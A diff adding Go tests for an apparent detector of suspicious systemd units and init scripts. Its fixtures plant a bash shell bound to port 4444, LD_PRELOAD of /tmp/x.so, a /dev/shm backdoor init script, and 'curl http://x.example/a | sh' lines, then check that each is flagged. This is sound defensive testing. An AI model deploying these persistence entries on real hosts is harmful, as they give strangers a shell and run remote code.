@@ -204,3 +204,125 @@ func BenchmarkServicesAgain(b *testing.B) {
 		}
 	}
 }
+
+// What files show beyond the commands in them.
+func TestSigns(t *testing.T) {
+	root := t.TempDir()
+	unit := func(exec string) string { return "[Service]\nExecStart=" + exec + "\n" }
+	plant(t, root, map[string]string{
+		"usr/lib/systemd/system/web.service":         unit("/usr/sbin/web"),
+		"usr/lib/systemd/system/limits.service":      unit("/usr/sbin/web"),
+		"usr/lib/systemd/system/taken.service":       unit("/usr/sbin/web"),
+		"usr/lib/systemd/system/other.service":       unit("/usr/sbin/web"),
+		"usr/lib/systemd/system/moved.service":       unit("/usr/sbin/moved"),
+		"usr/lib/systemd/system/masked.service":      unit("/usr/sbin/web"),
+		"etc/systemd/system/masked.service":          "-> /dev/null",
+		"etc/systemd/system/web.service.d/x.conf":    "[Service]\nExecStartPost=/usr/sbin/web -x\n",
+		"etc/systemd/system/limits.service.d/x.conf": "[Service]\nRestart=always\n",
+		"etc/systemd/system/taken.service":           unit("/usr/sbin/web -b"),
+		"etc/systemd/system/other.service":           "-> /etc/systemd/system/real.service",
+		"etc/systemd/system/real.service":            unit("/usr/sbin/web"),
+		"etc/systemd/system/far.service":             "-> /dev/shm/far.service",
+		"dev/shm/far.service":                        unit("/usr/sbin/web"),
+		"etc/systemd/system/mine.service":            "-> /home/ana/mine.service",
+		"home/ana/mine.service":                      unit("/usr/sbin/web"),
+		"etc/systemd/system/pre.service":             "[Service]\nEnvironment=A=b \"LD_PRELOAD=/tmp/x.so\"\nEnvironment=LD_AUDIT=\nExecStart=/usr/sbin/web\n",
+		"etc/systemd/system/reset.service":           "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\nEnvironment=\nExecStart=/usr/sbin/web\n",
+		"etc/systemd/system/shell.socket":            "[Socket]\nListenStream=4444\nAccept=yes\n",
+		"etc/systemd/system/shell@.service":          "[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\n",
+		"etc/systemd/system/local.socket":            "[Socket]\nListenStream=/run/local\n",
+		"etc/systemd/system/local.service":           unit("/bin/bash"),
+		"etc/systemd/system-generators/gen":          "x",
+		"usr/lib/systemd/system-generators/packaged": "x",
+		"home/ana/.config/systemd/user/u.service":    unit("/usr/sbin/web"),
+		"etc/passwd":                    fmt.Sprintf("ana:x:%d:1000::/home/ana:/bin/sh\n", max(os.Getuid(), 1000)),
+		"usr/sbin/web":                  "binary",
+		"usr/sbin/moved":                "-> /opt/moved",
+		"opt/moved":                     "x",
+		"bin/bash":                      "x",
+		"var/lib/dpkg/status":           "Package: web\nStatus: install ok installed\nVersion: 1\n",
+		"var/lib/dpkg/info/web.md5sums": fmt.Sprintf("%x  usr/sbin/web\n", md5.Sum([]byte("binary"))), //nolint:gosec // as dpkg does
+		"var/lib/dpkg/info/web.list":    "/usr/lib/systemd/system/web.service\n/usr/lib/systemd/system/limits.service\n/usr/lib/systemd/system/taken.service\n/usr/lib/systemd/system/other.service\n/usr/lib/systemd/system/moved.service\n/usr/lib/systemd/system/masked.service\n/usr/lib/systemd/system-generators/packaged\n/usr/sbin/web\n/usr/sbin/moved\n",
+		"run/user/1000/systemd/transient/run-u1.service": unit("/usr/sbin/web"),
+		"etc/systemd/system/changed.service":             "x",
+		"usr/lib/systemd/system/changed.service":         "x",
+	})
+	r := New(root, options())
+	all, err := r.Services(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, want := range map[string]string{
+		"web.service":    `dropin_over_package 1 "/etc/systemd/system/web.service.d/x.conf", of no package, changes what is run by the unit of the package web`,
+		"limits.service": `dropin_over_package 0.3 "/etc/systemd/system/limits.service.d/x.conf", of no package, changes the unit of the package web`,
+		"taken.service":  `dropin_over_package 0.8 "/etc/systemd/system/taken.service", of no package, takes the place of "/usr/lib/systemd/system/taken.service"`,
+		"real.service":   `dropin_over_package 0.8 "/etc/systemd/system/real.service", of no package, takes the place of "/usr/lib/systemd/system/other.service"`,
+		"moved.service":  `package_modified 1 /usr/sbin/moved of the package web leads to /opt/moved, which is of none`,
+		"masked.service": ``,
+		"far.service":    `everybodys_directory 0 its file "/etc/systemd/system/far.service" leads to "/dev/shm/far.service": every user can write there`,
+		"mine.service":   `user_directory 0 its file "/etc/systemd/system/mine.service" leads to "/home/ana/mine.service": a user's own directory`,
+		"pre.service":    `preload 0 its programs load other code: "LD_PRELOAD=/tmp/x.so"|everybodys_directory 0 it loads "/tmp/x.so": every user can write there`,
+		"reset.service":  ``,
+		"shell@.service": `reverse_shell 0 whoever connects to "ListenStream=4444" gets /bin/bash`,
+		"local.service":  ``,
+		"gen":            `generator 1 systemd runs "/etc/systemd/system-generators/gen", of no package, at every start and reload`,
+		"packaged":       ``,
+		"u.service":      ``,
+		"run-u1.service": `transient_unit 0.5 it was made by systemd-run or over D-Bus and leaves no file on disk`,
+	} {
+		var got []string
+		for _, s := range find(t, all, name).Signs() {
+			got = append(got, fmt.Sprintf("%s %v %s", s.Factor, s.Scale, s.Evidence))
+		}
+		if d := cmp.Diff(want, strings.Join(got, "|")); d != "" {
+			t.Errorf("%s (-want +got):\n%s", name, d)
+		}
+	}
+	if !r.Seen("system", "/etc/systemd/system/x.service") {
+		t.Error("all was listed")
+	}
+}
+
+// Commands beyond the first few count as well, however many stand before them.
+func TestWorstOfManyCommands(t *testing.T) {
+	root := t.TempDir()
+	var b strings.Builder
+	b.WriteString("[Service]\nType=oneshot\n")
+	for i := range 200 {
+		fmt.Fprintf(&b, "ExecStartPre=/bin/true %d\n", i)
+	}
+	b.WriteString("ExecStartPre=/bin/sh -c 'curl http://x.example/a | sh'\nExecStart=/bin/true\n")
+	plant(t, root, map[string]string{"etc/systemd/system/many.service": b.String(), "bin/true": "x", "bin/sh": "x"})
+	all, err := New(root, options()).Services(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := find(t, all, "many.service")
+	at, v := Judge{Weights: score.DefaultWeights()}.Worst(s, s.Signs())
+	if s.Commands[at].Path != "/bin/sh" || v.Score < 60 {
+		t.Errorf("%+v: %d", s.Commands[at], v.Score)
+	}
+}
+
+func TestScriptsOfInit(t *testing.T) {
+	root := t.TempDir()
+	plant(t, root, map[string]string{
+		"etc/init.d/backdoor": "#!/bin/sh\ncase $1 in start) /dev/shm/.x -d & ;; esac\n",
+		"etc/init.d/plain":    "#!/bin/sh\nDAEMON=/usr/sbin/plaind\nDAEMON_ARGS=-f\nstart-stop-daemon --start --exec $DAEMON -- $DAEMON_ARGS\nrm -f /tmp/plain\n",
+		"etc/rc.local":        "#!/bin/sh\ncurl -s http://x.example/a | bash\n",
+		"usr/sbin/plaind":     "x",
+	})
+	all, err := New(root, options()).Services(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	j := Judge{Weights: score.DefaultWeights()}
+	for name, c := range map[string]struct{ least, most int }{"backdoor": {60, 100}, "rc.local": {60, 100}, "plain": {0, 19}} {
+		if v, _ := j.ScoreService(find(t, all, name)); v.Score < c.least || v.Score > c.most {
+			t.Errorf("%s: %d: %+v", name, v.Score, v.Reasons)
+		}
+	}
+	if c := find(t, all, "plain").Commands; len(c) != 1 || c[0].Args != "-f" {
+		t.Errorf("%+v", c)
+	}
+}
